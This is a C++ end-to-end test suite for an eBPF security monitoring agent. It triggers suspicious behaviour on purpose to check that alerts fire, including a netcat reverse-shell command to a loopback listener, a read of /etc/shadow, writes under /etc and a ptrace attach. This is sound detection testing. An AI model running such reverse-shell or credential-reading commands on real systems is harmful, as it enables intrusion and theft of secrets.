// vigil-agent end to end: the real binary, its real BPF programs on this kernel, real actions.
// Each test starts its own agent with rules narrow enough (markers, ports, pids) that a busy
// machine cannot disturb the assertions.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <climits>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <random>
#include <set>
#include <sstream>
#include <thread>

#include "gtest/gtest.h"
#include "test/agent_e2e/agent_harness.h"

namespace vigil::test {
namespace {

using nlohmann::json;
using std::chrono::milliseconds;

const std::string kRules = std::string(VIGIL_SOURCE_DIR) + "/test/data/agent/e2e_rules.yaml";

std::string field(const json& alert, const std::string& name) {
  const auto& f = alert.at("output_fields");
  if (!f.contains(name)) return "<missing>";
  const auto& v = f.at(name);
  return v.is_string() ? v.get<std::string>() : v.dump();
}

// The cgroup v2 mount (pure v2: /sys/fs/cgroup; hybrid: /sys/fs/cgroup/unified).
std::string cgroup2_root() {
  std::ifstream in("/proc/self/mountinfo");
  std::string line;
  while (std::getline(in, line)) {
    const size_t dash = line.find(" - ");
    if (dash == std::string::npos || line.compare(dash + 3, 8, "cgroup2 ") != 0) continue;
    std::istringstream ss(line);
    std::string id, parent, devs, root, mnt;
    ss >> id >> parent >> devs >> root >> mnt;
    return mnt;
  }
  return "";
}

std::string random_hex(size_t n) {
  static std::mt19937_64 rng(std::random_device{}());
  static const char* kHex = "0123456789abcdef";
  std::string s;
  for (size_t i = 0; i < n; ++i) s += kHex[rng() % 16];
  return s;
}

// A container as a runtime makes one, minus the image: a cgroup v2 leaf named like
// containerd's (cri-containerd-<id>.scope) and new pid, mount and uts namespaces.
class SimulatedContainer {
 public:
  SimulatedContainer() : full_id_(random_hex(64)) {
    const std::string root = cgroup2_root();
    parent_ = root + "/vigil-e2e-" + std::to_string(::getpid());
    dir_ = parent_ + "/cri-containerd-" + full_id_ + ".scope";
    std::filesystem::create_directories(dir_);
  }
  ~SimulatedContainer() {
    // Kill whatever is left in the cgroup, then remove it.
    for (int i = 0; i < 50; ++i) {
      std::ifstream procs(dir_ + "/cgroup.procs");
      std::string pid;
      bool any = false;
      while (procs >> pid) {
        any = true;
        ::kill(std::stoi(pid), SIGKILL);
      }
      if (!any) break;
      std::this_thread::sleep_for(milliseconds(20));
    }
    ::rmdir(dir_.c_str());
    ::rmdir(parent_.c_str());
  }
  const std::string& full_id() const { return full_id_; }
  std::string short_id() const { return full_id_.substr(0, 12); }
  // Runs `cmd` (a shell command) inside the container and waits for it.
  int run(const std::string& cmd) const {
    const std::string wrapped = "sh -c 'echo $$ > " + dir_ +
                                "/cgroup.procs && exec unshare --pid --fork --mount --uts sh -c "
                                "\"$0\"' '" +
                                cmd + "' </dev/null >/dev/null 2>&1";
    return vigil::test::run(wrapped);
  }

 private:
  std::string full_id_, parent_, dir_;
};

std::string rules_with_ports(const TempDir& dir, const std::vector<int>& ports) {
  std::string text = read_file(kRules);
  std::string items = "[";
  for (size_t i = 0; i < ports.size(); ++i) items += (i ? ", " : "") + std::to_string(ports[i]);
  items += "]";
  const size_t p = text.find("items: [1]");
  text.replace(p, 10, "items: " + items);
  const std::string path = dir.file("rules.yaml");
  write_file(path, text);
  return path;
}

// A listening TCP socket on 127.0.0.1 that accepts and closes connections in a thread.
class Listener {
 public:
  Listener() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof(a));
    socklen_t len = sizeof(a);
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    ::listen(fd_, 16);
    thread_ = std::thread([this] {
      for (;;) {
        const int c = ::accept(fd_, nullptr, nullptr);
        if (c < 0) return;
        if (stop_) {
          ::close(c);
          return;
        }
        // A netcat shell reads commands from us: tell it to leave.
        const char* bye = "exit\n";
        (void)!::write(c, bye, 5);
        std::this_thread::sleep_for(milliseconds(100));
        ::close(c);
      }
    });
  }
  ~Listener() {
    stop_ = true;
    ::shutdown(fd_, SHUT_RDWR);
    ::close(fd_);
    thread_.join();
  }
  int port() const { return port_; }

 private:
  int fd_ = -1;
  int port_ = 0;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

std::string comm_of_self() {
  std::string c = read_file("/proc/self/comm");
  while (!c.empty() && c.back() == '\n') c.pop_back();
  return c;
}

class AgentE2E : public ::testing::Test {
 protected:
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root: loads BPF programs";
  }
};

TEST_F(AgentE2E, ShellWithTerminalInSimulatedContainer) {
  TempDir dir;
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", rules_with_ports(dir, {1})}));
  SimulatedContainer c;
  // script(1) gives the shell a pseudo-terminal, as `kubectl exec -it` does.
  c.run("script -qec \"bash -c true\" /dev/null");
  // script runs $SHELL -c CMD: take the innermost shell, whose command line is exactly ours.
  auto found = agent.wait_alerts("E2E shell with terminal in container", "cmdline=bash -c true ");
  ASSERT_EQ(found.size(), 1u) << agent.stderr_text();
  const json& a = found[0];
  EXPECT_EQ(field(a, "container.id"), c.short_id());
  EXPECT_EQ(field(a, "proc.name"), "bash");
  EXPECT_EQ(field(a, "proc.cmdline"), "bash -c true");
  EXPECT_EQ(field(a, "proc.exepath"), std::filesystem::canonical("/bin/bash").string());
  EXPECT_EQ(field(a, "user.uid"), "0");
  EXPECT_EQ(field(a, "user.name"), "root");
  EXPECT_NE(field(a, "proc.tty"), "0");
  // In its own pid namespace the shell has a small pid; on the host a large one.
  EXPECT_LT(std::stoll(field(a, "proc.vpid")), 10);
  EXPECT_NE(field(a, "proc.vpid"), field(a, "proc.pid"));
  EXPECT_EQ(a.value("priority", ""), "Warning");
  EXPECT_EQ(a.value("source", ""), "syscall");
  EXPECT_EQ(a.value("tags", json::array()), json::array({"e2e", "shell"}));
}

TEST_F(AgentE2E, ReadOfShadowWithParentChain) {
  TempDir dir;
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", rules_with_ports(dir, {1})}));
  const std::string me = std::to_string(::getpid());
  // test → sh (system) → sh → cat (the `; true` keeps sh from exec'ing cat directly).
  ASSERT_EQ(run("sh -c 'cat /etc/shadow >/dev/null; true'"), 0);
  auto found = agent.wait_alerts("E2E read shadow", "");
  ASSERT_GE(found.size(), 1u) << agent.stderr_text();
  json a;
  for (auto& f : found) {
    if (field(f, "proc.aname[3]") == comm_of_self()) a = f;
  }
  ASSERT_FALSE(a.is_null()) << found[0].dump();
  EXPECT_EQ(field(a, "fd.name"), "/etc/shadow");
  EXPECT_EQ(field(a, "fd.directory"), "/etc");
  EXPECT_EQ(field(a, "fd.typechar"), "f");
  EXPECT_NE(field(a, "evt.arg.flags").find("O_RDONLY"), std::string::npos);
  EXPECT_EQ(field(a, "proc.cmdline"), "cat /etc/shadow");
  EXPECT_EQ(field(a, "proc.aname[1]"), "sh");
  EXPECT_EQ(field(a, "proc.aname[2]"), "sh");
  EXPECT_EQ(field(a, "container.id"), "host");
  EXPECT_EQ(field(a, "evt.res"), "SUCCESS");
  EXPECT_GE(agent.metric("vigil_agent_alerts_total", "rule=\"E2E read shadow\""), 1);
}

TEST_F(AgentE2E, WriteBelowEtcAbsoluteAndRelative) {
  TempDir dir;
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", rules_with_ports(dir, {1})}));
  const std::string name = "vigil-e2e-" + std::to_string(::getpid());
  const std::string abs = "/etc/" + name + "-abs";
  int fd = ::open(abs.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
  ASSERT_GE(fd, 0);
  ::close(fd);
  ::unlink(abs.c_str());
  // A child that changes directory first: fd.name comes from the tracked cwd.
  const pid_t child = ::fork();
  if (child == 0) {
    if (::chdir("/etc") != 0) _exit(1);
    const std::string rel = name + "-rel";
    const int f = ::open(rel.c_str(), O_RDWR | O_CREAT, 0600);
    ::close(f);
    ::unlink(rel.c_str());
    _exit(0);
  }
  int status = 0;
  ::waitpid(child, &status, 0);

  auto a1 = agent.wait_alerts("E2E write below etc", abs);
  ASSERT_EQ(a1.size(), 1u) << agent.stderr_text();
  EXPECT_EQ(field(a1[0], "fd.name"), abs);
  EXPECT_EQ(field(a1[0], "evt.arg.flags"), "O_TRUNC|O_CREAT|O_WRONLY");
  EXPECT_EQ(field(a1[0], "proc.pid"), std::to_string(::getpid()));

  auto a2 = agent.wait_alerts("E2E write below etc", "/etc/" + name + "-rel");
  ASSERT_EQ(a2.size(), 1u) << agent.stderr_text();
  EXPECT_EQ(field(a2[0], "fd.nameraw"), name + "-rel");
  EXPECT_EQ(field(a2[0], "proc.pid"), std::to_string(child));
}

TEST_F(AgentE2E, NetcatRemoteExecAndConnect) {
  if (::access("/usr/bin/nc.traditional", X_OK) != 0) {
    GTEST_SKIP() << "nc.traditional missing: run scripts/install-deps.sh";
  }
  Listener l;
  TempDir dir;
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", rules_with_ports(dir, {l.port()})}));
  const std::string cmd =
      "timeout 5 nc.traditional -e /bin/sh 127.0.0.1 " + std::to_string(l.port()) + " </dev/null";
  run(cmd);
  auto nc = agent.wait_alerts("E2E netcat remote exec", std::to_string(l.port()));
  ASSERT_EQ(nc.size(), 1u) << agent.stderr_text();
  EXPECT_EQ(field(nc[0], "proc.cmdline"),
            "nc.traditional -e /bin/sh 127.0.0.1 " + std::to_string(l.port()));
  EXPECT_EQ(field(nc[0], "proc.exepath"),
            std::filesystem::canonical("/usr/bin/nc.traditional").string());

  auto conn = agent.wait_alerts("E2E connect loopback", "nc.traditional");
  ASSERT_EQ(conn.size(), 1u) << agent.stderr_text();
  EXPECT_EQ(field(conn[0], "fd.sip"), "127.0.0.1");
  EXPECT_EQ(field(conn[0], "fd.sport"), std::to_string(l.port()));
  EXPECT_EQ(field(conn[0], "fd.cip"), "127.0.0.1");
  EXPECT_EQ(field(conn[0], "fd.l4proto"), "tcp");
  EXPECT_EQ(field(conn[0], "fd.typechar"), "4");
  EXPECT_EQ(field(conn[0], "evt.res"), "SUCCESS");
  // fd.name is Falco's tuple "cip:cport->sip:sport".
  EXPECT_NE(field(conn[0], "fd.name").find("->127.0.0.1:" + std::to_string(l.port())),
            std::string::npos);
}

TEST_F(AgentE2E, PtraceAttach) {
  TempDir dir;
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", rules_with_ports(dir, {1})}));
  const pid_t target = ::fork();
  if (target == 0) {
    ::pause();
    _exit(0);
  }
  const pid_t tracer = ::fork();
  if (tracer == 0) {
    if (::ptrace(PTRACE_ATTACH, target, nullptr, nullptr) != 0) _exit(1);
    int st = 0;
    ::waitpid(target, &st, 0);
    ::ptrace(PTRACE_DETACH, target, nullptr, nullptr);
    _exit(0);
  }
  int status = 0;
  ::waitpid(tracer, &status, 0);
  EXPECT_EQ(WEXITSTATUS(status), 0);
  ::kill(target, SIGKILL);
  ::waitpid(target, &status, 0);
  auto found = agent.wait_alerts("E2E ptrace attach", "pid=" + std::to_string(tracer));
  ASSERT_EQ(found.size(), 1u) << agent.stderr_text();
  EXPECT_EQ(field(found[0], "evt.arg.request"), "PTRACE_ATTACH");
  EXPECT_EQ(field(found[0], "proc.pid"), std::to_string(tracer));
  EXPECT_EQ(field(found[0], "evt.res"), "SUCCESS");
}

// Rules are reloaded five times while a child opens marker files as fast as it can: every open
// is alerted exactly once (no gap, no duplicate), and capture never restarted.
TEST_F(AgentE2E, ReloadUnderLoadLosesNothing) {
  TempDir dir;
  const std::string marker_dir = dir.file("reload");
  std::filesystem::create_directories(marker_dir);
  auto rules = [&](int version) {
    return "- rule: E2E reload marker\n"
           "  desc: marker opens\n"
           "  condition: evt.type in (open, openat) and fd.name startswith " +
           marker_dir +
           "/m\n"
           "  output: marker %fd.name version " +
           std::to_string(version) +
           "\n"
           "  priority: NOTICE\n"
           "- rule: E2E reload filler " +
           std::to_string(version) +
           "\n"
           "  desc: changes with every version\n"
           "  condition: evt.type = unlinkat and fd.name = /nonexistent/" +
           std::to_string(version) +
           "\n"
           "  output: filler\n"
           "  priority: DEBUG\n";
  };
  const std::string path = dir.file("reload.yaml");
  write_file(path, rules(1));
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", path, "--rules-poll-seconds", "0"}));

  constexpr int kOpens = 4000;
  const pid_t child = ::fork();
  if (child == 0) {
    for (int i = 0; i < kOpens; ++i) {
      const std::string f = marker_dir + "/m" + std::to_string(i);
      const int fd = ::open(f.c_str(), O_RDONLY);  // ENOENT: still an openat event
      if (fd >= 0) ::close(fd);
      if (i % 20 == 0) ::usleep(1000);
    }
    _exit(0);
  }
  for (int v = 2; v <= 6; ++v) {
    std::this_thread::sleep_for(milliseconds(60));
    write_file(path, rules(v));
    agent.signal(SIGHUP);
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  ASSERT_TRUE(eventually([&] { return agent.metric("vigil_agent_ruleset_generation") == 6; }))
      << agent.stderr_text();
  auto found = agent.wait_alerts("E2E reload marker", marker_dir, kOpens, milliseconds(15000));
  std::vector<int> seen(kOpens, 0);
  std::set<int> versions;
  for (const auto& a : found) {
    const std::string name = field(a, "fd.name");
    const int n = std::stoi(name.substr(marker_dir.size() + 2));
    ASSERT_GE(n, 0);
    ASSERT_LT(n, kOpens);
    ++seen[n];
    const std::string out = a.value("output", "");
    versions.insert(std::stoi(out.substr(out.rfind(' ') + 1)));
  }
  int missing = 0, dup = 0;
  for (int n : seen) {
    missing += n == 0;
    dup += n > 1;
  }
  EXPECT_EQ(missing, 0);
  EXPECT_EQ(dup, 0);
  EXPECT_EQ(agent.metric("vigil_agent_drops_total"), 0);
  // The opens spanned several rule-set generations.
  EXPECT_GE(versions.size(), 2u);
  EXPECT_NE(agent.stderr_text().find("generation 6"), std::string::npos);
}

TEST_F(AgentE2E, BadRulesRefuseToStartWithPosition) {
  TempDir dir;
  const std::string path = dir.file("bad.yaml");
  write_file(path,
             "- rule: broken\n  desc: x\n  condition: evt.type = openat and (fd.name = /a\n"
             "  output: x\n  priority: WARNING\n");
  const std::string err = dir.file("err");
  const int rc = run(std::string(VIGIL_AGENT) + " --no-default-rules --rules " + path +
                     " --health-addr off 2>" + err);
  EXPECT_EQ(rc, 1);
  const std::string text = read_file(err);
  EXPECT_NE(text.find(path + ":3:"), std::string::npos) << text;
  EXPECT_NE(text.find("error"), std::string::npos) << text;
  EXPECT_NE(text.find("nothing was started"), std::string::npos) << text;
}

TEST_F(AgentE2E, NotRootIsAClearError) {
  TempDir dir;
  const std::string err = dir.file("err");
  const int rc = run("setpriv --reuid=65534 --regid=65534 --clear-groups " +
                     std::string(VIGIL_AGENT) + " --health-addr off 2>" + err);
  EXPECT_EQ(rc, 3);
  EXPECT_NE(read_file(err).find("root"), std::string::npos) << read_file(err);
}

TEST_F(AgentE2E, DropsAreCountedAndAlerted) {
  TempDir dir;
  const std::string marker_dir = dir.file("drops");
  std::filesystem::create_directories(marker_dir);
  const std::string path = dir.file("drops.yaml");
  write_file(path,
             "- rule: E2E drops marker\n  desc: x\n  condition: evt.type = openat and "
             "fd.name startswith " +
                 marker_dir + "\n  output: x %fd.name\n  priority: DEBUG\n");
  AgentProcess agent;
  // The smallest ring and a wakeup threshold above it: bursts overflow before the reader runs.
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", path, "--ring-bytes", "4096",
                           "--wakeup-bytes", "1M", "--drop-alert-seconds", "1"}));
  const std::string long_name = marker_dir + "/" + std::string(200, 'x');
  for (int i = 0; i < 20000; ++i) {
    const int fd = ::open(long_name.c_str(), O_RDONLY);
    if (fd >= 0) ::close(fd);
  }
  ASSERT_TRUE(eventually([&] { return agent.metric("vigil_agent_drops_total") > 0; }))
      << agent.stderr_text();
  auto found = agent.wait_alerts("Vigil internal: syscall event drop", "");
  ASSERT_GE(found.size(), 1u);
  EXPECT_EQ(found[0].value("source", ""), "internal");
  EXPECT_GT(std::stoll(field(found[0], "n_drops")), 0);
  // Nothing lost silently: every open is either alerted or counted as dropped (the outputs may
  // still be writing, hence the wait).
  double drops = 0;
  size_t alerted = 0;
  EXPECT_TRUE(eventually([&] {
    drops = agent.metric("vigil_agent_drops_total");
    alerted = agent.wait_alerts("E2E drops marker", "", 1, milliseconds(0)).size();
    return static_cast<double>(alerted) + drops >= 20000.0;
  })) << alerted
      << " alerted + " << drops << " dropped < 20000 opens";
}

TEST_F(AgentE2E, HealthAndMetrics) {
  TempDir dir;
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", rules_with_ports(dir, {1})}));
  std::string body;
  EXPECT_EQ(http_get(agent.port(), "/healthz", &body), 200);
  EXPECT_EQ(body, "ok\n");
  EXPECT_EQ(http_get(agent.port(), "/metrics", &body), 200);
  for (const char* m : {"vigil_agent_events_total ", "vigil_agent_drops_total{cpu=\"0\"}",
                        "vigil_agent_kernel_events_total{cpu=\"0\"}",
                        "vigil_agent_ruleset_generation 1", "vigil_agent_processes"}) {
    EXPECT_NE(body.find(m), std::string::npos) << m << "\n" << body;
  }
  EXPECT_EQ(agent.stop(), 0);
}

// The process table follows forks and exits: a storm of 3,000 short-lived processes leaves it
// no bigger than before (exits remove entries; nothing leaks).
TEST_F(AgentE2E, ProcessTableDoesNotGrowUnderForkExitStorm) {
  TempDir dir;
  AgentProcess agent;
  ASSERT_TRUE(agent.start({"--no-default-rules", "--rules", rules_with_ports(dir, {1})}));
  const double before = agent.metric("vigil_agent_processes");
  ASSERT_GT(before, 0);
  for (int i = 0; i < 3000; ++i) {
    const pid_t p = ::fork();
    if (p == 0) _exit(0);
    int st = 0;
    ::waitpid(p, &st, 0);
  }
  ASSERT_EQ(run("sh -c 'i=0; while [ $i -lt 300 ]; do /bin/true; i=$((i+1)); done'"), 0);
  // The gauge is refreshed every 5 s by the capture thread.
  std::this_thread::sleep_for(milliseconds(6000));
  const double after = agent.metric("vigil_agent_processes");
  EXPECT_LT(after, before + 20) << "before " << before << ", after " << after;
  EXPECT_EQ(agent.metric("vigil_agent_drops_total"), 0);
}

// The story, with the agent's embedded default rules (no --rules): a container runtime starts a
// shell with a terminal in a container (what `kubectl exec -it` does), and cat reads /etc/shadow.
TEST_F(AgentE2E, DefaultRulesCatchTheStory) {
  AgentProcess agent;
  ASSERT_TRUE(agent.start({}));
  SimulatedContainer c;
  TempDir bin;
  // The runtime's exec: a launcher whose process name is runc, allocating a terminal.
  const std::string runc = bin.file("runc");
  std::filesystem::create_symlink("/usr/bin/script", runc);
  c.run(runc + " -qec \"bash -c true\" /dev/null");
  auto shell = agent.wait_alerts("terminal-shell-in-container", c.short_id());
  ASSERT_GE(shell.size(), 1u) << agent.stderr_text();
  EXPECT_EQ(field(shell[0], "container.id"), c.short_id());
  EXPECT_EQ(field(shell[0], "proc.pname"), "runc");
  EXPECT_EQ(shell[0].value("priority", ""), "Notice");
  EXPECT_NE(field(shell[0], "proc.tty"), "0");

  ASSERT_EQ(run("sh -c 'cat /etc/shadow >/dev/null; true'"), 0);
  auto shadow = agent.wait_alerts("sensitive-file-read-by-untrusted-program", "cat /etc/shadow");
  ASSERT_GE(shadow.size(), 1u) << agent.stderr_text();
  EXPECT_EQ(field(shadow[0], "fd.name"), "/etc/shadow");
  EXPECT_EQ(field(shadow[0], "proc.name"), "cat");
  EXPECT_EQ(field(shadow[0], "proc.pname"), "sh");
  EXPECT_EQ(field(shadow[0], "container.id"), "host");
}

// A benign workload in a container fires none of the default rules.
TEST_F(AgentE2E, BenignWorkloadFiresNothing) {
  AgentProcess agent;
  ASSERT_TRUE(agent.start({}));
  SimulatedContainer c;
  TempDir work;
  c.run(
      "ls -l /etc >/dev/null; cat /etc/hostname /etc/os-release >/dev/null; "
      "sh -c 'echo hello' >/dev/null; date >/dev/null; id >/dev/null; "
      "mkdir -p " +
      work.path() + "/d && echo data > " + work.path() +
      "/d/f && "
      "cp " +
      work.path() + "/d/f " + work.path() + "/d/g && rm -r " + work.path() +
      "/d; "
      "grep root /etc/passwd >/dev/null; sleep 0.2; true");
  // Give the agent time to evaluate everything the workload did, then look.
  std::this_thread::sleep_for(milliseconds(1500));
  std::vector<std::string> hits;
  for (const auto& a : agent.alerts()) {
    if (a.dump().find(c.short_id()) != std::string::npos) hits.push_back(a.dump());
  }
  EXPECT_TRUE(hits.empty()) << hits.size() << " alerts, first: " << hits[0];
  EXPECT_GT(agent.metric("vigil_agent_evaluated_events_total"), 0);
}

}  // namespace
}  // namespace vigil::test
